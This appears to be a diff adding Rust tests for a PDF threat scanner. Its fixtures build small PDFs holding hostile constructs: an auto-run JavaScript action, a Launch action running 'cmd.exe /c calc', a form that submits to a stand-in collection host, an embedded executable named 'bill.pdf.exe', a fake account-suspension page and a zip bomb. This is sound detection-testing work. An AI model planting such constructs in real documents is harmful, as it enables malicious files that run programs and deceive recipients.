@@ -1,0 +1,90 @@
+use std::io::Write as _;
+
+use super::super::tests::looked;
+use crate::report::{Kind, Place, Reason, Trait};
+
+fn packed(octets: &[u8]) -> Vec<u8> {
+    let mut to = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    to.write_all(octets).unwrap();
+    to.finish().unwrap()
+}
+
+fn stream(dictionary: &str, octets: &[u8]) -> Vec<u8> {
+    [format!("{dictionary}\nstream\r\n").as_bytes(), octets, b"\nendstream endobj\n"].concat()
+}
+
+#[test]
+fn links_plain_and_in_object_streams() {
+    let hidden = stream(
+        "2 0 obj <</Type/ObjStm/N 1/First 4/Filter[/FlateDecode]/Length 9 0 R>>",
+        &packed(b"5 0 <</S/URI/URI(https://hidden.example/x)>>"),
+    );
+    let file = [
+        b"%PDF-1.7\n1 0 obj <</A<</S /#55RI /URI <687474703a2f2f612e6578616d706c652f>>>>>endobj\n".as_slice(),
+        &hidden,
+    ]
+    .concat();
+    let report = looked("a.pdf", &file);
+    let urls: Vec<&str> = report.links.iter().map(|link| link.url.as_str()).collect();
+    assert_eq!((report.kind(), urls), (Kind::Pdf, vec!["http://a.example/", "https://hidden.example/x"]));
+    assert!(report.signs.is_empty() && report.unlooked.is_empty());
+}
+
+#[test]
+fn scripts_programs_forms_and_embedded_files() {
+    let file = [
+        b"%PDF-1.7\n1 0 obj <</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>> endobj
+        2 0 obj <</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>> endobj
+        3 0 obj <</S/SubmitForm/F<</FS/URL/F(https://collect.example/)>>>> endobj
+        4 0 obj <</Type/Filespec/F(bill.pdf.exe)/EF<</F 5 0 R>>>> endobj\n"
+            .as_slice(),
+        &stream("5 0 obj <</Type/EmbeddedFile/Filter/FlateDecode>>", &packed(b"MZ\x01")),
+    ]
+    .concat();
+    let report = looked("a.pdf", &file);
+    let evidence = |what| report.signs.iter().find(|sign| sign.what == what).map(|sign| sign.evidence.as_str());
+    assert_eq!(evidence(Trait::DocumentScript), Some("app.alert(1)"));
+    assert_eq!(evidence(Trait::StartsProgram), Some("cmd.exe"));
+    assert_eq!(evidence(Trait::HiddenFile), Some("bill.pdf.exe"));
+    assert_eq!((report.files[1].kind, report.files[1].has_deceptive_name), (Kind::Program, true));
+    assert_eq!((report.links[0].url.as_str(), report.links[0].place), ("https://collect.example/", Place::Loaded));
+}
+
+#[test]
+fn text_of_a_page() {
+    let page =
+        packed(b"BT /F1 12 Tf 72 700 Td (Your account) Tj 0 -14 Td [(is sus)-20(pended)-250(now)] TJ <0001> Tj ET");
+    let report =
+        looked("a.pdf", &[b"%PDF-1.4\n".as_slice(), &stream("1 0 obj <</Filter/FlateDecode>>", &page)].concat());
+    assert_eq!(report.texts[0].text, "Your account is suspended now");
+}
+
+#[test]
+fn an_encrypted_file_is_told() {
+    let report =
+        looked("a.pdf", b"%PDF-1.4\n1 0 obj<</S/URI/URI(xxxx://)>>endobj trailer <</Root 1 0 R/Encrypt 2 0 R>>");
+    assert!(report.files[0].is_locked && report.links.is_empty());
+    assert_eq!(report.unlooked[0].why, Reason::Locked);
+}
+
+#[test]
+fn bombs_are_bounded() {
+    let bomb = packed(&vec![b' '; 60 << 20]);
+    let twice = stream("1 0 obj <</Type/ObjStm/Filter[/FlateDecode/FlateDecode]>>", &packed(&bomb));
+    let report = looked("a.pdf", &[b"%PDF-1.4\n".as_slice(), &twice].concat());
+    assert!(report.shows(Trait::Bomb), "{:?}", report.unlooked);
+    let many = b"%PDF-1.4\n".iter().chain(b"<<>> ".repeat(900_000).iter()).copied().collect::<Vec<u8>>();
+    assert_eq!(looked("a.pdf", &many).unlooked, []);
+}
+
+#[test]
+fn broken_files_are_read_as_far_as_they_go() {
+    let whole = [
+        b"%PDF-1.7\n1 0 obj <</A[1 2 (x\\)) <41>]/S/URI/URI(http://a.example)>> endobj\n".as_slice(),
+        &stream("2 0 obj <</Filter/FlateDecode>>", &packed(b"BT (a) Tj ET")),
+    ]
+    .concat();
+    for end in 0..whole.len() {
+        let _ = looked("a.pdf", &whole[..end]);
+    }
+}
